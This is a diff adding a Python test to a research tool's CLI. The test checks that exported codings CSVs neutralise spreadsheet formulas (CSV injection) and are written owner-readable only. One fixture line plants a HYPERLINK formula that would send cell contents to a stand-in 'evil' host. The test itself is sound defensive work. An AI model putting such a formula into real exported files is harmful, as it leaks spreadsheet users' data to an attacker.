@@ -216,3 +216,24 @@ def test_import_warns_about_unknown_participants(study, tmp_path, capsys):
     people = pd.read_csv(target / "data" / "participants.csv", dtype=str)
     assert people.set_index("participant_id").loc["V01", "role"] == "provider"
     assert main(["validate", str(target)]) == 0
+
+
+def test_export_codings_neutralises_formulas_and_is_private(study, tmp_path, capsys):
+    """The CLI CSV is as safe to open in a spreadsheet as the web one (OWASP CSV injection)
+    and readable by its owner only, even when it replaces a world-readable file."""
+    codings = pd.read_csv(study / "codings.csv", keep_default_na=False)
+    codings.loc[0, "memo"] = '=HYPERLINK("http://evil/?"&A1, "click")'
+    codings.loc[1, "memo"] = "@SUM(1+1)"
+    codings.to_csv(study / "codings.csv", index=False)
+    csv = tmp_path / "codings.csv"
+    csv.write_text("old")
+    csv.chmod(0o644)
+    assert main(["export", "codings", str(study), str(csv)]) == 0
+    assert csv.stat().st_mode & 0o777 == 0o600
+    memos = pd.read_csv(csv, keep_default_na=False).set_index("coding_id")["memo"]
+    assert memos["c1"] == '\'=HYPERLINK("http://evil/?"&A1, "click")'
+    assert memos["c2"] == "'@SUM(1+1)"
+    assert memos["c3"] == ""
+    fresh = tmp_path / "fresh.csv"
+    assert main(["export", "codings", str(study), str(fresh)]) == 0
+    assert fresh.stat().st_mode & 0o777 == 0o600
